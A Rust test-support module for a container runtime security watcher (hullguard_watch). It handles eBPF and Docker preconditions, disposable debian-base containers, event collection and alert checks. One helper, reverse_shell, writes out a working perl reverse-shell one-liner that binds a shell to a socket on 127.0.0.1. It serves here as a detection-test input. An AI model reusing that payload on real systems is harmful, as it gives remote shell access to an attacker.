//! What the tests against the kernel and a real Engine share: the eBPF precondition, containers
//! from the shared debian-base image removed at the end, waiting for an event.

#![allow(dead_code)] // each test binary uses its own part

use std::io::Write;
use std::process::{Command, Output};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::{Duration, Instant};

use hullguard_watch::bpf::Probe;
use hullguard_watch::events::Event;
use hullguard_watch::{Options, SourceChoice, Stats, rules};
use serde_json::Value;

/// The probe attached, or `None` after saying why on stderr when this machine cannot run eBPF
/// (not root, no BTF, no Engine). With `HULLGUARD_REQUIRE_EBPF` set (CI), that is a failure.
pub fn probe() -> Option<Probe> {
    let missing = if !is_root() {
        Some("not root".to_owned())
    } else if !std::path::Path::new("/sys/kernel/btf/vmlinux").exists() {
        Some("the kernel has no BTF (/sys/kernel/btf/vmlinux)".to_owned())
    } else if !docker(&["info"]).status.success() {
        Some("no Docker Engine".to_owned())
    } else {
        None
    };
    let result = match missing {
        Some(why) => Err(why),
        None => Probe::attach().map_err(|e| e.to_string()),
    };
    match result {
        Ok(probe) => Some(probe),
        Err(why) if std::env::var_os("HULLGUARD_REQUIRE_EBPF").is_some() => {
            panic!("HULLGUARD_REQUIRE_EBPF is set but eBPF cannot run: {why}")
        }
        Err(why) => {
            // Straight to stderr: the test harness captures eprintln! of passing tests.
            let _ = writeln!(std::io::stderr(), "SKIPPED: eBPF test not run: {why}");
            None
        }
    }
}

/// Whether the fallback (proc connector) can run here: root and an Engine; else says why on
/// stderr (with `HULLGUARD_REQUIRE_EBPF` set, CI, that is a failure).
pub fn fallback_ready() -> bool {
    let missing = if !is_root() {
        Some("not root")
    } else if !docker(&["info"]).status.success() {
        Some("no Docker Engine")
    } else {
        None
    };
    match missing {
        None => true,
        Some(why) if std::env::var_os("HULLGUARD_REQUIRE_EBPF").is_some() => {
            panic!("HULLGUARD_REQUIRE_EBPF is set but the fallback cannot run: {why}")
        }
        Some(why) => {
            let _ = writeln!(std::io::stderr(), "SKIPPED: fallback test not run: {why}");
            false
        }
    }
}

fn is_root() -> bool {
    // The effective uid of this process, from /proc (no libc call needed).
    std::fs::read_to_string("/proc/self/status").is_ok_and(|s| {
        s.lines().find_map(|l| l.strip_prefix("Uid:")).and_then(|l| l.split_whitespace().nth(1)) == Some("0")
    })
}

/// Runs `docker ARGS`.
pub fn docker(args: &[&str]) -> Output {
    Command::new("docker").args(args).output().expect("docker runs")
}

/// `docker ARGS`, which must succeed; its stdout trimmed.
pub fn docker_ok(args: &[&str]) -> String {
    let out = docker(args);
    assert!(out.status.success(), "docker {args:?}: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8_lossy(&out.stdout).trim().to_owned()
}

/// A running debian-base container (`sleep infinity`), removed when dropped.
pub struct Container {
    /// The full container id (or, from [`Container::named`], its name).
    pub id: String,
}

impl Container {
    /// Starts one, loading debian-base from the shared images first when the Engine lacks it.
    pub fn start(name: &str, flags: &[&str]) -> Self {
        load_debian_base();
        let name = unique_name(name);
        let mut args = vec!["run", "-d", "--rm", "--name", &name];
        args.extend(flags);
        args.extend(["debian-base", "sleep", "infinity"]);
        Container { id: docker_ok(&args) }
    }

    /// A debian-base container that the test starts itself under this name (`hg-watch-NAME-PID`,
    /// [`Container::id`]), removed by that name when dropped; the image loaded as for
    /// [`Container::start`].
    pub fn named(name: &str) -> Self {
        load_debian_base();
        Container { id: unique_name(name) }
    }

    /// `docker exec` in it, which must succeed.
    pub fn exec(&self, command: &[&str]) -> String {
        self.exec_as("0", command)
    }

    /// `docker exec -u USER` in it, which must succeed.
    pub fn exec_as(&self, user: &str, command: &[&str]) -> String {
        let mut args = vec!["exec", "-u", user, self.id.as_str()];
        args.extend(command);
        docker_ok(&args)
    }

    /// The host pid of its first process.
    pub fn pid(&self) -> u32 {
        docker_ok(&["inspect", "-f", "{{.State.Pid}}", &self.id]).parse().expect("a pid")
    }
}

/// `hg-watch-NAME-PID`: a container name of this test process.
fn unique_name(name: &str) -> String {
    format!("hg-watch-{name}-{}", std::process::id())
}

/// Loads debian-base from the shared images when the Engine lacks it.
fn load_debian_base() {
    if !docker(&["image", "inspect", "debian-base:latest"]).status.success() {
        let shared = std::env::var("HULLGUARD_SHARED")
            .unwrap_or_else(|_| concat!(env!("CARGO_MANIFEST_DIR"), "/../../../shared").to_owned());
        docker_ok(&["load", "-q", "-i", &format!("{shared}/images/bookworm-images.docker.tar")]);
    }
}

impl Drop for Container {
    fn drop(&mut self) {
        let _ = docker(&["rm", "-f", "-v", &self.id]);
    }
}

/// Every event that arrives within `wait`, read until `done` holds for one of them.
pub fn collect(probe: &mut Probe, wait: Duration, done: impl Fn(&Event) -> bool) -> Vec<Event> {
    let start = Instant::now();
    let mut seen = Vec::new();
    while start.elapsed() < wait {
        match probe.poll() {
            Some(e) => {
                let stop = done(&e);
                seen.push(e);
                if stop {
                    break;
                }
            }
            None => std::thread::sleep(Duration::from_millis(10)),
        }
    }
    seen
}

/// What one watch wrote.
pub struct Watched {
    /// The alerts of the test's container, in order.
    pub alerts: Vec<Value>,
    /// What the watch wrote to its log (the start message, reloads, delivery failures).
    pub log: String,
    /// Its counts.
    pub stats: Stats,
}

/// Watches with `source` and `rules` (repeats folded within `window`) while `act` runs on a
/// fresh container (`flags` for `docker run`).
pub fn watch(
    source: SourceChoice,
    name: &str,
    flags: &[&str],
    rules: &str,
    window: Duration,
    act: impl FnOnce(&Container),
) -> Watched {
    let rules = rules::parse("rules.yaml", rules).expect("rules");
    watch_with(Options { rules, window, source, ..Options::default() }, name, flags, act)
}

/// [`watch`] with every option given.
pub fn watch_with(options: Options, name: &str, flags: &[&str], act: impl FnOnce(&Container)) -> Watched {
    let container = Container::start(name, flags);
    let done = AtomicBool::new(false);
    let (mut out, mut log) = (Vec::new(), Vec::new());
    let stats = std::thread::scope(|s| {
        let watcher = s.spawn(|| hullguard_watch::run(options, &mut out, &mut log, &|| done.load(Ordering::SeqCst)));
        /// Stops the watcher also when `act` panics (else the scope would wait for it forever).
        struct Stop<'a>(&'a AtomicBool);
        impl Drop for Stop<'_> {
            fn drop(&mut self) {
                self.0.store(true, Ordering::SeqCst);
            }
        }
        let stop = Stop(&done);
        std::thread::sleep(Duration::from_millis(700)); // attached
        act(&container);
        std::thread::sleep(Duration::from_millis(700)); // read
        drop(stop);
        watcher.join().expect("no panic").expect("watch runs")
    });
    let alerts: Vec<Value> =
        String::from_utf8(out).unwrap().lines().map(|l| serde_json::from_str(l).expect("JSON lines")).collect();
    // Only this container's alerts (others may run on the machine).
    let short = &container.id[..12];
    let alerts = alerts.into_iter().filter(|a| a["output_fields"]["container.id"] == short).collect();
    Watched { alerts, log: String::from_utf8(log).unwrap(), stats }
}

/// A step of a [`Case`], done in its container.
pub enum Step {
    /// `docker exec -u USER ARGV`, which must succeed.
    Exec(&'static str, Vec<String>),
    /// `docker exec -d ARGV`: started, not waited for.
    Detached(Vec<String>),
    /// A pause (for a healthcheck to run).
    Wait(Duration),
}

/// `docker exec` of `argv` as root.
pub fn root(argv: &[&str]) -> Step {
    Step::Exec("0", argv.iter().map(|&a| a.to_owned()).collect())
}

/// `docker exec` of `argv` as uid 1000.
pub fn user(argv: &[&str]) -> Step {
    Step::Exec("1000", argv.iter().map(|&a| a.to_owned()).collect())
}

/// `docker exec` of `perl -e SCRIPT` as root.
pub fn perl(script: &str) -> Step {
    root(&["/usr/bin/perl", "-e", script])
}

/// A perl script connecting to 127.0.0.1:`port`, then running `sh -c COMMAND` with its stdin and
/// stdout on that socket: a reverse shell.
pub fn reverse_shell(port: u16, command: &str) -> String {
    format!(
        "use IO::Socket::INET; $s = IO::Socket::INET->new('127.0.0.1:{port}') or die; \
         open STDIN, '<&', $s; open STDOUT, '>&', $s; exec '/bin/sh', '-c', '{command}'"
    )
}

/// One row of a table of watch tests: steps done in a fresh container and the alerts they raise.
pub struct Case {
    /// The container's name is `hg-watch-NAME-PID`.
    pub name: &'static str,
    /// Its `docker run` flags.
    pub flags: &'static [&'static str],
    /// What is done in it, in order.
    pub steps: Vec<Step>,
    /// Each alert expected, in order: its rule and output fields (`container.name` is checked in
    /// every alert besides).
    pub alerts: Vec<(&'static str, Vec<(&'static str, String)>)>,
}

/// An expected alert of `rule` with `fields`, for [`Case::alerts`].
pub fn alert(rule: &'static str, fields: &[(&'static str, &str)]) -> (&'static str, Vec<(&'static str, String)>) {
    (rule, fields.iter().map(|&(k, v)| (k, v.to_owned())).collect())
}

impl Case {
    /// Does the steps in `container`.
    pub fn act(&self, container: &Container) {
        for step in &self.steps {
            match step {
                Step::Exec(user, argv) => {
                    container.exec_as(user, &argv.iter().map(String::as_str).collect::<Vec<_>>());
                }
                Step::Detached(argv) => {
                    let mut args = vec!["exec", "-d", container.id.as_str()];
                    args.extend(argv.iter().map(String::as_str));
                    docker_ok(&args);
                }
                Step::Wait(pause) => std::thread::sleep(*pause),
            }
        }
    }

    /// Asserts that `alerts` are exactly the expected ones: their rules, in order, and the
    /// expected fields of each.
    pub fn check(&self, alerts: &[Value]) {
        let container = format!("hg-watch-{}-{}", self.name, std::process::id());
        let expected: Vec<(&str, Vec<(&str, Value)>)> = self
            .alerts
            .iter()
            .map(|(rule, fields)| {
                let mut fields: Vec<(&str, Value)> =
                    fields.iter().map(|(k, v)| (*k, Value::from(v.as_str()))).collect();
                fields.push(("container.name", Value::from(container.as_str())));
                (*rule, fields)
            })
            .collect();
        let seen: Vec<(&str, Vec<(&str, Value)>)> = alerts
            .iter()
            .enumerate()
            .map(|(n, a)| {
                let keys = expected.get(n).map_or(&[][..], |(_, fields)| fields.as_slice());
                let fields = keys.iter().map(|(k, _)| (*k, a["output_fields"][*k].clone())).collect();
                (a["rule"].as_str().unwrap_or_default(), fields)
            })
            .collect();
        assert_eq!(seen, expected, "{}: {alerts:#?}", self.name);
    }
}
